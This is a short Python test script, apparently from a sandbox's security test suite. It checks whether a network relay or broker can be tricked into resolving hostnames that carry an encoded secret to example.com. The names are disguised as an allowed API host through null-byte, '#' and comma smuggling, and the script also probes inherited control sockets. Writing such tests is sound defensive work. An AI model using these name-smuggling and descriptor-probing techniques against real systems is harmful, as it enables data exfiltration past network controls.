# attack: if the relay or the broker resolved the names that a script asks for, a name could carry data out
# expect: broker
# validator: refused
import json
import os
import socket
import stat

SECRET = "c2VjcmV0"
NAMES = [
    f"{SECRET}.example.com",
    f"{SECRET}.api.stripe.com",
    f"api.stripe.com.{SECRET}.example.com",
    f"api.stripe.com\0.{SECRET}.example.com",
    f"{SECRET}.example.com#api.stripe.com",
    f"{SECRET}.example.com,api.stripe.com",
]


def by_the_patched_functions(name):
    with socket.create_connection((name, 443), 0.5):
        print("ESCAPED: the relay connected to", repr(name), flush=True)


def by_the_control_socket(name):
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
        except OSError:
            continue
        control = socket.socket(fileno=os.dup(number))
        if control.type != socket.SOCK_SEQPACKET:
            continue
        control.send(json.dumps({"host": name, "port": 443}).encode())
        answer, descriptors, *_ = socket.recv_fds(control, 4096, 1)
        if descriptors or b'"ok"' in answer:
            print("ESCAPED: the relay gave a stream for", repr(name), flush=True)


for name in NAMES:
    for way in (by_the_patched_functions, by_the_control_socket):
        try:
            way(name)
        except Exception as error:
            print(way.__name__, type(error).__name__, str(error)[:100])
